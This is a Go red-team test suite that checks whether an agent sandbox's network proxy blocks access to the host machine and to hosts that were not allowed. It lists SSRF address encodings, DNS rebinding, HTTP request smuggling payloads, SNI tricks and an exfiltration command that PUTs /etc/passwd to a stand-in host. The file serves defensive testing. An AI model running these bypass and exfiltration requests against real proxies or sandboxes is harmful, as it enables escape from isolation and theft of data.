//go:build linux

package redteam

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"background-agents/backend/session"
)

// listener is a server of the user's own on this machine, which no sandbox may reach. Every connection counts.
type listener struct {
	port    int
	says    string
	touched atomic.Int64
}

func newListener(t *testing.T) *listener {
	t.Helper()
	l := &listener{says: random()}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(l.says)) }))
	var err error
	s.Listener, err = new(net.ListenConfig).Listen(ctx, "tcp", ":0") // every address: loopback, the bridge, the user's network
	must(t, err)
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			l.touched.Add(1)
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	l.port = s.Listener.Addr().(*net.TCPAddr).Port
	return l
}

// bridge is the host's address on Docker's own network.
func bridge(t *testing.T) string {
	t.Helper()
	hex := docker(t, "run", "--rm", "--entrypoint", "awk", theVictim(t).image(t), `$2 == "00000000" { print $3 }`, "/proc/net/route")
	n, err := strconv.ParseUint(hex, 16, 32)
	must(t, err)
	return net.IPv4(byte(n), byte(n>>8), byte(n>>16), byte(n>>24)).String()
}

// Whatever form an address has and whatever a name says, a sandbox whose network is open, and whose user has allowed
// these very hosts by mistake, reaches nothing of this machine.
func TestNothingOfThisMachineIsReached(t *testing.T) {
	v := theVictim(t)
	l := newListener(t)
	p, err := v.AddProject(ctx, v.repo)
	must(t, err)
	port, gateway := strconv.Itoa(l.port), bridge(t)
	v.names.set("loop.attacker.example", "127.0.0.1")
	v.names.set("bridge.attacker.example", gateway)
	v.names.set("both.attacker.example", "203.0.113.7,127.0.0.1")
	v.names.set("mapped.attacker.example", "::ffff:127.0.0.1")
	v.names.set("six.attacker.example", "::1")
	v.names.set("nat64.attacker.example", "64:ff9b::7f00:1")
	v.names.set("sixtofour.attacker.example", "2002:7f00:1::")
	v.names.set("metadata.attacker.example", "169.254.169.254")
	v.names.set("rebind.attacker.example", "203.0.113.7", "127.0.0.1") // an address that leads nowhere first
	v.names.set("zero.attacker.example", "0.0.0.0")
	v.allow(t, p, "127.0.0.1:"+port, gateway+":"+port, "[::1]:"+port, "*.attacker.example:"+port)
	must(t, v.SetNetwork(ctx, v.cell, session.OpenNetwork))
	t.Cleanup(func() { must(t, v.SetNetwork(ctx, v.cell, session.Guarded)) })

	hosts := map[string]string{
		"loopback": "127.0.0.1", "another loopback": "127.9.9.9", "short": "127.1", "decimal": "2130706433", "octal": "0177.0.0.1", "hex": "0x7f.0.0.1", "one hex": "0x7f000001",
		"zero": "0.0.0.0", "zero as a number": "0", "bridge": gateway, "IPv6 loopback": "[::1]", "mapped": "[::ffff:127.0.0.1]", "mapped in hex": "[::ffff:7f00:1]",
		"compatible": "[::127.0.0.1]", "IPv6 zero": "[::]", "zone": "[::1%25lo]", "6to4": "[2002:7f00:1::]", "NAT64": "[64:ff9b::7f00:1]",
		"localhost": "localhost", "localhost with a dot": "localhost.", "under localhost": "x.localhost", "host of Docker": "host.docker.internal", "gateway of Docker": "gateway.docker.internal",
		"name of loopback": "loop.attacker.example", "in upper case": "LOOP.ATTACKER.EXAMPLE", "with a dot": "loop.attacker.example.", "name of the bridge": "bridge.attacker.example",
		"public and loopback": "both.attacker.example", "mapped by name": "mapped.attacker.example", "IPv6 by name": "six.attacker.example", "NAT64 by name": "nat64.attacker.example",
		"6to4 by name": "sixtofour.attacker.example", "metadata by name": "metadata.attacker.example", "zero by name": "zero.attacker.example", "another answer the second time": "rebind.attacker.example",
		"metadata": "169.254.169.254", "user part": "allowed.attacker.example@127.0.0.1", "percent": "127%2e0%2e0%2e1", "fullwidth": "１２７.0.0.1", "circled": "⑫7.0.0.1",
		"ideographic dots": "127。0。0。1", "backslash": `allowed.attacker.example\@127.0.0.1`,
	}
	var b strings.Builder
	b.WriteString("ask() { printf '%b' \"$2\" | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 300 <&3' 2>/dev/null | grep -aq " + l.says + " && echo \"REACHED $1\"; }\n")
	n := 0
	for name, host := range hosts {
		for kind, request := range map[string]string{
			"GET":         "GET http://%[1]s:%[2]s/ HTTP/1.1\\r\\nHost: %[1]s:%[2]s\\r\\nConnection: close\\r\\n\\r\\n",
			"other host":  "GET http://%[1]s:%[2]s/ HTTP/1.1\\r\\nHost: registry.npmjs.org\\r\\nConnection: close\\r\\n\\r\\n",
			"CONNECT":     "CONNECT %[1]s:%[2]s HTTP/1.1\\r\\nHost: %[1]s:%[2]s\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n",
			"header only": "GET / HTTP/1.1\\r\\nHost: %[1]s:%[2]s\\r\\nConnection: close\\r\\n\\r\\n",
		} {
			n++
			fmt.Fprintf(&b, "ask '%s by %s' '%s' &\n", name, kind, strings.ReplaceAll(fmt.Sprintf(request, host, port), `\@`, `\\@`))
			if n%8 == 0 {
				b.WriteString("wait\n")
			}
		}
	}
	// And past the proxy.
	for _, host := range []string{"127.0.0.1", gateway, "[::1]", "host.docker.internal"} {
		fmt.Fprintf(&b, "curl --noproxy '*' -s -m 2 http://%s:%s/ | grep -q %s && echo 'REACHED %s directly'\n", host, port, l.says, host)
	}
	b.WriteString("wait; echo asked\n")
	before, begun := l.touched.Load(), session.Millis(time.Now().UnixMilli())
	v.script(t, v.cell, "/tmp/ask.sh", b.String())
	out := v.sh(t, v.cell, "bash /tmp/ask.sh")
	if out != "asked\n" {
		t.Errorf("the sandbox says:\n%s", out)
	}
	if got := l.touched.Load() - before; got > 0 {
		t.Errorf("the server of this machine was reached %d times", got)
	}
	rows, err := v.Connections(ctx, v.cell, 1000)
	must(t, err)
	judged := map[string]int{}
	for _, r := range rows {
		if r.At < begun { // another test's
			continue
		}
		judged[r.Rule]++
		if r.Allowed && r.Host != "rebind.attacker.example" { // its first address is public
			t.Errorf("the ledger says that %s was allowed: %+v", r.Host, r)
		}
	}
	if judged["host or link address"] < 20 {
		t.Errorf("the addresses were hardly what decided: %v", judged)
	}

	t.Run("control: without the policy they lead here", func(t *testing.T) {
		reached := 0
		for _, host := range hosts {
			resp, err := (&http.Client{Timeout: 3 * time.Second}).Get("http://" + host + ":" + port + "/")
			if err == nil {
				_ = resp.Body.Close()
				reached++
			}
		}
		out := docker(t, "run", "--rm", "--entrypoint", "bash", v.image(t), "-c", "curl --noproxy '*' -s -m 5 http://"+gateway+":"+port+"/; echo")
		if reached < 4 || out != l.says {
			t.Errorf("only %d of the hosts lead here, and an ordinary container says %q", reached, out)
		}
	})
}

// A guarded sandbox reaches what was allowed, in the way that was allowed, and no other host in its place.
func TestTheAllowedHostIsTheOnlyOne(t *testing.T) {
	v := theVictim(t)
	b := newBeyond(t, v)
	if !netip.MustParseAddr(b.addr).IsPrivate() {
		t.Fatalf("the other machine is at %s", b.addr)
	}
	for _, name := range []string{"shop.attacker.example", "registry.npmjs.org", "private.attacker.example", "evilshop.attacker.example", "shop.attacker.example.evil.example", "github.com"} {
		v.names.set(name, b.addr)
	}
	p, err := v.AddProject(ctx, v.repo)
	must(t, err)
	v.allow(t, p, b.addr, "shop.attacker.example", "*.wild.attacker.example")
	must(t, v.SetNetwork(ctx, v.cell, session.Guarded))
	// ask runs a command, and answers no to whatever the user is asked meanwhile.
	ask := func(t *testing.T, script string) (out, reached string) {
		t.Helper()
		before := b.log(t)
		done := make(chan struct{})
		go func() { defer close(done); out = v.sh(t, v.cell, script) }()
		for {
			select {
			case <-done:
				time.Sleep(100 * time.Millisecond)
				return out, strings.TrimSpace(strings.TrimPrefix(b.log(t), before))
			case <-time.After(300 * time.Millisecond):
				for _, it := range v.transcript(t, v.cell) {
					if it.Permission != nil && it.DoneAt == 0 {
						_ = v.Answer(ctx, v.cell, it.Permission.ID, "no")
					}
				}
			}
		}
	}
	raw := func(request string) string {
		return "printf '" + request + "' | timeout 4 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'"
	}
	tls := func(connect, sni string) string {
		name := "-servername " + sni
		if sni == "" {
			name = "-noservername"
		}
		return "printf 'GET /tls HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect " + connect + " " + name + " 2>&1"
	}

	// arrived waits until the other machine's log, which the engine writes in its own time, says so.
	arrived := func(before, want string) bool {
		for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
			if strings.Contains(strings.TrimPrefix(b.log(t), before), want) {
				return true
			}
		}
		return false
	}

	t.Run("control: the allowed host is reached", func(t *testing.T) {
		before := b.log(t)
		if out, reached := ask(t, "curl -s http://shop.attacker.example/plain"); out != "public" || !arrived(before, "GET /plain") {
			t.Errorf("plain: %q, %q", out, reached)
		}
		if out, reached := ask(t, "curl -sk https://shop.attacker.example/tls"); out != "public" || !arrived(before, "shop.attacker.example GET /tls") {
			t.Errorf("TLS: %q, %q", out, reached)
		}
		if out, reached := ask(t, "curl -s http://registry.npmjs.org/package"); out != "public" || !arrived(before, "GET /package") {
			t.Errorf("preset: %q, %q", out, reached)
		}
	})
	for name, script := range map[string]string{
		"publish to a registry with PUT":   "curl -s -X PUT -d @/etc/passwd http://registry.npmjs.org/package",
		"publish with POST":                "curl -s -d secret http://registry.npmjs.org/package",
		"a body in GET":                    "curl -s -X GET -d secret http://registry.npmjs.org/package",
		"a method of one's own":            "curl -s -X STEAL http://registry.npmjs.org/package",
		"a method by header":               "curl -s -X POST -H 'X-HTTP-Method-Override: GET' http://registry.npmjs.org/package",
		"another name of the same address": "curl -s http://private.attacker.example/secret",
		"a name that ends alike":           "curl -s http://evilshop.attacker.example/",
		"a name that begins alike":         "curl -s http://shop.attacker.example.evil.example/",
		"a wildcard's own name":            "curl -s http://wild.attacker.example/",
		"another port":                     "curl -s http://shop.attacker.example:8443/",
		"CONNECT to another port":          raw(`CONNECT shop.attacker.example:8443 HTTP/1.1\r\nHost: shop.attacker.example\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n`),
		"CONNECT to ssh":                   raw(`CONNECT github.com:22 HTTP/1.1\r\nHost: github.com\r\n\r\n`),
		"plain HTTP in a tunnel":           raw(`CONNECT shop.attacker.example:443 HTTP/1.1\r\nHost: shop.attacker.example\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n`),
		"another server name":              tls("shop.attacker.example:443", "private.attacker.example"),
		"no server name":                   tls("shop.attacker.example:443", ""),
		"an allowed name in a tunnel":      tls("private.attacker.example:443", "shop.attacker.example"),
		"a redirect to another":            "curl -sL --max-redirs 3 http://shop.attacker.example/go",
		"NUL in the name":                  raw(`GET http://shop.attacker.example\000.evil.example/ HTTP/1.1\r\nHost: shop.attacker.example\r\n\r\n`),
		"a second request line":            raw(`GET http://shop.attacker.example/a HTTP/1.1\nGET /smuggled HTTP/1.1\r\nHost: private.attacker.example\r\n\r\n`),
		"two hosts":                        raw(`GET /two HTTP/1.1\r\nHost: shop.attacker.example\r\nHost: private.attacker.example\r\n\r\n`),
		"another host in the header":       raw(`GET http://shop.attacker.example/other HTTP/1.1\r\nHost: private.attacker.example\r\n\r\n`),
		"length and chunks":                raw(`POST http://shop.attacker.example/cl HTTP/1.1\r\nHost: shop.attacker.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\nGET http://private.attacker.example/smuggled HTTP/1.1\r\nHost: private.attacker.example\r\n\r\n0\r\n\r\n`),
		"two lengths":                      raw(`POST http://shop.attacker.example/ll HTTP/1.1\r\nHost: shop.attacker.example\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: private\r\n\r\n`),
		"a second request to another":      raw(`GET http://registry.npmjs.org/ok HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\nPUT http://registry.npmjs.org/smuggled HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 1\r\n\r\nx`),
		"an upgrade":                       raw(`GET http://registry.npmjs.org/up HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\nPUT /smuggled HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 0\r\n\r\n`),
		"a folded header":                  raw(`GET http://shop.attacker.example/fold HTTP/1.1\r\nHost: shop.attacker.example\r\n private.attacker.example\r\n\r\n`),
		"an unknown scheme":                raw(`GET gopher://shop.attacker.example/ HTTP/1.1\r\nHost: shop.attacker.example\r\n\r\n`),
		"an address without a name by TLS": tls(b.addr+":443", "private.attacker.example"),
		"unicode that looks like the host": "curl -s http://ѕhop.attacker.example/",
		"the host with a dot":              "curl -s -H 'Host: shop.attacker.example.' http://shop.attacker.example./",
		"a user before the host":           raw(`GET http://shop.attacker.example@private.attacker.example/ HTTP/1.1\r\nHost: private.attacker.example\r\n\r\n`),
		"the network past the proxy":       "curl --noproxy '*' -s -m 2 http://" + b.addr + "/",
		"a program that asks for a name":   "python3 -c 'import socket; print(socket.gethostbyname(\"shop.attacker.example\"))'",
	} {
		t.Run(name, func(t *testing.T) {
			out, reached := ask(t, script)
			for _, line := range strings.Split(reached, "\n") {
				f := strings.Fields(line)
				// What may arrive are whole requests of the kind that was allowed.
				if len(f) < 4 || f[0] == "-" && f[1] == "GET" && (f[2] == "/ok" || f[2] == "/go" || f[2] == "/up" || f[2] == "/other" && strings.HasPrefix(f[4], "shop.")) {
					continue
				}
				t.Errorf("%q arrived; the sandbox says %q", line, out)
			}
		})
	}
	t.Run("control: the same requests arrive without the policy", func(t *testing.T) {
		before := b.log(t)
		docker(t, "run", "--rm", "--add-host", "private.attacker.example:"+b.addr, "--add-host", "registry.npmjs.org:"+b.addr, "--add-host", "shop.attacker.example:"+b.addr,
			"--entrypoint", "bash", v.image(t), "-c", `export no_proxy='*'; curl -s -X PUT -d x http://registry.npmjs.org/package; curl -s http://private.attacker.example/secret
				curl -s http://shop.attacker.example:8443/port; curl -sL http://shop.attacker.example/go; curl -s -X STEAL http://registry.npmjs.org/x
				curl -sk --connect-to private.attacker.example:443:shop.attacker.example:443 https://private.attacker.example/front; true`)
		for _, want := range []string{"PUT /package", "GET /secret", "GET /port", "private.attacker.example GET /front"} {
			if !arrived(before, want) {
				t.Errorf("%q did not arrive: %q", want, strings.TrimPrefix(b.log(t), before))
			}
		}
	})
	t.Run("a policy that changes in flight cuts what is open", func(t *testing.T) {
		done := make(chan string, 1)
		go func() {
			done <- v.sh(t, v.cell, "curl -s -m 40 http://shop.attacker.example/slow | wc -l; date +%s%3N")
		}()
		for end := time.Now().Add(10 * time.Second); !strings.Contains(b.log(t), "/slow"); time.Sleep(100 * time.Millisecond) {
			if time.Now().After(end) {
				t.Fatal("control: the connection did not open")
			}
		}
		time.Sleep(500 * time.Millisecond)
		at := time.Now()
		must(t, v.SetNetwork(ctx, v.cell, session.Offline))
		f := strings.Fields(<-done)
		if len(f) != 2 || f[0] == "0" {
			t.Fatalf("control: nothing came through before: %v", f)
		}
		ended, _ := strconv.ParseInt(f[1], 10, 64)
		if took := time.UnixMilli(ended).Sub(at); took > 2*time.Second {
			t.Errorf("it went on for %v", took)
		}
		if out, reached := ask(t, "curl -s http://shop.attacker.example/offline"); reached != "" {
			t.Errorf("offline: %q arrived; %q", reached, out)
		}
		must(t, v.SetNetwork(ctx, v.cell, session.Guarded))
	})
}
